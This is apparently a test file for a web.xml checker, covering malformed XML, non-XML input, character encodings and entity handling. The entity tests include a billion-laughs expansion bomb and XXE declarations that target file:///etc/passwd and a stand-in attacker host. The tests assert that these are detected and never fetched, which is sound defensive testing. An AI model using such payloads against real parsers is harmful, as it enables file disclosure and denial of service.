/**
 * Bad input for the web.xml checker: each gets one clear finding, never a hang, never
 * an expanded or fetched entity. And reading files: every byte survives a fix.
 */
import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { analyse } from '../../src/tools/webxml/analyse';
import { checkWebXml } from '../../src/tools/webxml/check';
import type { FindingId } from '../../src/tools/webxml/findings';
import { MAX_INPUT_BYTES, applyToBytes, encodeText, fromText, readBytes, type Source } from '../../src/tools/webxml/source';

const URL = 'https://xyc.teamspace.de';
const enc = (s: string) => new TextEncoder().encode(s);
const latin1 = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0));

function errorIds(text: string): FindingId[] {
  return checkWebXml(fromText(text), { installationUrl: URL }).findings.filter((f) => f.severity === 'error').map((f) => f.id);
}

describe('not a web.xml', () => {
  test.each<[string, string, FindingId]>([
    ['empty', '', 'empty'],
    ['blank', ' \n\t\n', 'empty'],
    ['HTML', '<!DOCTYPE html>\n<html lang="en"><head><title>web.xml</title></head><body><p>Hi<br></body></html>', 'html'],
    ['HTML after a comment', '<!-- saved page -->\n<html><body></body></html>', 'html'],
    ['JSON', '{\n  "appId": "6f1c2d3e-4a5b-4c6d-8e7f-9a0b1c2d3e4f"\n}', 'json'],
    ['JSON array', '[{"resourceAppId": "x"}]', 'json'],
    ['plain text', 'oauth2Gateway.url = https://xyc.teamspace.de', 'notXml'],
    ['control characters', 'PK\u0003\u0004\u0014\u0000', 'binary'],
  ])('%s', (_, text, id) => {
    expect(errorIds(text)).toEqual([id]);
  });

  test('pasted text over 5 MB', () => {
    expect(errorIds('<web-app>' + ' '.repeat(MAX_INPUT_BYTES) + '</web-app>')).toEqual(['tooLarge']);
  });
});

describe('not well-formed, explained at the spot', () => {
  test('unescaped & in a URL', () => {
    const text = '<web-app>\n  <context-param>\n    <param-name>x</param-name>\n    <param-value>https://a.example/?a=1&b=2</param-value>\n  </context-param>\n</web-app>';
    const r = checkWebXml(fromText(text));
    expect(r.findings).toHaveLength(1);
    const f = r.findings[0];
    expect(f).toMatchObject({ id: 'xmlAmpersand', severity: 'error', line: 4, column: 40 });
    expect(f.excerpt!.mark).toBe('&');
    expect(r.fix).toBeNull();
  });

  test.each<[string, string, FindingId, number]>([
    ['unescaped <', '<web-app>\n<description>a < b</description>\n</web-app>', 'xmlLessThan', 2],
    ['closing tag mismatch', '<web-app>\n<context-param>\n<param-name>x</param-name>\n</web-app>', 'xmlTagMismatch', 4],
    ['unclosed', '<web-app>\n<context-param>\n', 'xmlUnclosed', 2],
    ['closing tag without opening', '<web-app></web-app>\n</x>', 'xmlNotOpened', 2],
    ['attribute without quotes', '<web-app version=4.0>\n</web-app>', 'xmlAttribute', 1],
    ['two roots', '<web-app></web-app>\n<web-app></web-app>', 'xmlExtraRoot', 2],
    ['text after the root', '<web-app></web-app>\ntrailing words', 'xmlStrayText', 2],
    ['HTML entity', '<web-app>\n<description>a&nbsp;b</description>\n</web-app>', 'undefinedEntity', 2],
  ])('%s', (_, text, id, line) => {
    const r = checkWebXml(fromText(text));
    const errors = r.findings.filter((f) => f.severity === 'error');
    expect(errors[0].id).toBe(id);
    expect(errors[0].line).toBe(line);
    expect(r.fix).toBeNull();
  });

  test('the mismatch names both tags and where the open one started', () => {
    const f = checkWebXml(fromText('<web-app>\n<context-param>\n</web-app>')).findings[0];
    expect(f.values).toMatchObject({ expected: 'context-param', found: 'web-app', openLine: '2' });
  });

  test('column on line 1 counts the byte order mark', () => {
    const f = checkWebXml(fromText('\uFEFF<web-app version=4.0></web-app>')).findings[0];
    expect(f).toMatchObject({ id: 'xmlAttribute', line: 1, column: 11 });
    expect(f.excerpt).toEqual({ before: '<web-app ', mark: 'v', after: 'ersion=4.0></web-app>' });
  });
});

describe('entities: detected, never expanded or fetched', () => {
  afterEach(() => vi.unstubAllGlobals());

  const laughs = (levels: number) => {
    let decl = '<!ENTITY lol0 "lol">\n';
    for (let i = 1; i <= levels; i++) decl += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">\n`;
    return `<?xml version="1.0"?>\n<!DOCTYPE web-app [\n${decl}]>\n<web-app><display-name>&lol${levels};</display-name></web-app>\n`;
  };

  test('billion laughs: reported with its size, the text stays unexpanded', () => {
    const text = laughs(9);
    const a = analyse({ text, installationUrl: URL });
    const f = a.report.findings.find((x) => x.id === 'entityExpansion')!;
    expect(f.severity).toBe('error');
    expect(f.values.size).toBe(String(3 * 10 ** 9));
    expect(a.text).toBe(text);
    expect(a.fixed?.text ?? text).not.toContain('lollol');
  });

  test('a much deeper bomb is still only an estimate (capped), checked at once', () => {
    expect(analyse({ text: laughs(40) }).report.findings.find((x) => x.id === 'entityExpansion')!.values.size).toBe('∞');
  });

  test('recursive and parameter entities count as expansion bombs', () => {
    const rec = '<!DOCTYPE web-app [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n<web-app>&a;</web-app>';
    expect(errorIds(rec)).toContain('entityExpansion');
    const pe = '<!DOCTYPE web-app [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;"><!ENTITY % c "%b;%b;"><!ENTITY % d "%c;%c;"><!ENTITY % e "%d;%d;">]>\n<web-app/>';
    expect(errorIds(pe)).toContain('entityExpansion');
  });

  test('external entities: reported with their target, never fetched', () => {
    const fetch = vi.fn(() => {
      throw new Error('no network');
    });
    vi.stubGlobal('fetch', fetch);
    vi.stubGlobal('XMLHttpRequest', fetch);
    const text = '<?xml version="1.0"?>\n<!DOCTYPE web-app [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n  <!ENTITY remote PUBLIC "-//X//EN" "http://attacker.example/x.dtd">\n]>\n<web-app><display-name>&xxe;&remote;</display-name></web-app>\n';
    const r = checkWebXml(fromText(text), { installationUrl: URL });
    const ext = r.findings.filter((f) => f.id === 'externalEntity');
    expect(ext.map((f) => [f.values.name, f.values.target, f.line])).toEqual([
      ['xxe', 'file:///etc/passwd', 3],
      ['remote', 'http://attacker.example/x.dtd', 4],
    ]);
    expect(fetch).not.toHaveBeenCalled();
  });

  test('a plain DOCTYPE with a public DTD is fine', () => {
    const text = readFileSync('tests/fixtures/webxml/apache__jackrabbit__jackrabbit-webapp_src_main_webapp_WEB-INF_web.xml', 'utf8');
    expect(errorIds(text)).toEqual(['paramMissing']);
  });
});

describe('reading files', () => {
  test('UTF-8 with BOM: the BOM stays, bytes are spliced', () => {
    const text = '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\r\n<web-app>\r\n  <display-name>Größe</display-name>\r\n</web-app>\r\n';
    const bytes = enc(text);
    const a = analyse({ bytes, installationUrl: URL });
    expect(a.encoding).toEqual({ kind: 'utf-8', label: 'utf-8', bom: true });
    const out = a.fixed!.bytes;
    expect([...out.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(out)).toBe(a.fixed!.text.slice(1));
    expect(a.fixed!.text).toContain('Größe</display-name>\r\n  <context-param>\r\n');
  });

  test('ISO-8859-1: every original byte kept, one byte per character', () => {
    const text = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!-- Gr\u00fc\u00dfe, \u00a9 2024 -->\n<web-app>\n  <display-name>M\u00fcller</display-name>\n</web-app>';
    const bytes = latin1(text);
    const a = analyse({ bytes, installationUrl: URL });
    expect(a.encoding!.kind).toBe('single-byte');
    expect(a.text).toBe(text);
    expect(Buffer.from(a.fixed!.bytes).toString('latin1')).toBe(a.fixed!.text);
    expect(a.fixed!.bytes.includes(0xfc)).toBe(true);
  });

  test('single-byte charsets write characters they lack as character references', () => {
    const e = { kind: 'single-byte', label: 'iso-8859-1', bom: false } as const;
    expect(Buffer.from(encodeText('a\u00fc\u20ac', e)).toString('latin1')).toBe('a\u00fc&#x20AC;');
  });

  test('UTF-16 with BOM', () => {
    const text = '\uFEFF<?xml version="1.0" encoding="UTF-16"?>\n<web-app>\n</web-app>\n';
    const bytes = new Uint8Array(text.length * 2);
    for (let i = 0; i < text.length; i++) new DataView(bytes.buffer).setUint16(i * 2, text.charCodeAt(i), true);
    const a = analyse({ bytes, installationUrl: URL });
    expect(a.encoding!.kind).toBe('utf-16le');
    expect(new TextDecoder('utf-16le').decode(a.fixed!.bytes)).toBe(a.fixed!.text.slice(1));
  });

  test.each<[string, Uint8Array, string]>([
    ['PNG', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), 'binary'],
    ['ZIP (a .war)', Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0]), 'binary'],
    ['invalid UTF-8', latin1('<web-app><display-name>M\u00fcller</display-name></web-app>'), 'badEncoding'],
    ['unknown charset', enc('<?xml version="1.0" encoding="EBCDIC-US"?><web-app/>'), 'unknownEncoding'],
  ])('%s', (_, bytes, problem) => {
    expect(readBytes(bytes)).toMatchObject({ problem });
    expect(analyse({ bytes }).report.findings.map((f) => f.id)).toEqual([problem]);
  });

  test('invalid UTF-8: the offset of the bad byte is given', () => {
    expect(readBytes(latin1('<web-app>\u00fc</web-app>'))).toMatchObject({ problem: 'badEncoding', offset: 9 });
  });

  test('a file over 5 MB is refused before reading', () => {
    expect(readBytes(new Uint8Array(MAX_INPUT_BYTES + 1))).toEqual({ problem: 'tooLarge', size: MAX_INPUT_BYTES + 1 });
  });

  test('a generated 5 MB web.xml is checked and fixed', () => {
    const tomcat = readFileSync('tests/fixtures/webxml/apache__tomcat__conf_web.xml', 'latin1');
    const body = tomcat.slice(tomcat.indexOf('<servlet>'), tomcat.lastIndexOf('</web-app>'));
    let text = tomcat;
    while (text.length + body.length < MAX_INPUT_BYTES - 1000) text = text.replace('</web-app>', body + '</web-app>');
    const a = analyse({ bytes: latin1(text), installationUrl: URL });
    expect(a.report.findings.filter((f) => f.severity === 'error').map((f) => f.id)).toEqual(['paramMissing']);
    expect(a.fixed!.bytes.length).toBeGreaterThan(text.length);
  }, 120_000);

  test('applyToBytes on pasted text encodes the whole result', () => {
    const source: Source = fromText('<web-app>\n</web-app>');
    expect(new TextDecoder().decode(applyToBytes(source, [{ start: 9, end: 9, text: '\n  <x/>' }]))).toBe('<web-app>\n  <x/>\n</web-app>');
  });
});
